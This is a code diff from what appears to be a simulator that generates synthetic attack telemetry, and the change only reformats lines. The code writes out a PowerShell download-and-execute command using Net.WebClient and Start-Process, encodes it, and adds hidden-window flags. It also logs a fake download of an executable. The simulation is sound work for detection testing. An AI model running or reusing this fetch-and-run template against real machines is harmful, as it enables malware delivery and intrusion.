@@ -109,7 +109,8 @@ def _arrive(attack: Attack, victim: Person, time: float) -> Process:
             at + 5, word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
         )
         stage = f"http://{site}/{attack.word()}"
-        text = f"$c=New-Object Net.WebClient;$c.DownloadFile('{stage}','{dropped}');Start-Process '{dropped}'"
+        text = f"$c=New-Object Net.WebClient;$c.DownloadFile('{stage}','{dropped}');"
+        text += f"Start-Process '{dropped}'"
         encoded = _encoded(text)
         flag = dice.choice(("-enc", "-e", "-EncodedCommand", "-ec"))
         hidden = dice.choice(("-w hidden", "-WindowStyle Hidden", "-nop -w 1"))
@@ -118,8 +119,8 @@ def _arrive(attack: Attack, victim: Person, time: float) -> Process:
         )
         script(host, at + 8, shell, text)
         path = "/" + stage.rsplit("/", 1)[1]
-        plain(company, host, at + 8.5, shell, site, ("GET", path), _AGENT, dice.randrange(90_000, 700_000),
-              "application/x-dosexec")  # fmt: skip
+        plain(company, host, at + 8.5, shell, site, ("GET", path), _AGENT,
+              dice.randrange(90_000, 700_000), "application/x-dosexec")  # fmt: skip
         write_file(host, at + 9.4, shell, dropped)
         return host.start(at + 10, unknown(dropped), shell, session)
 
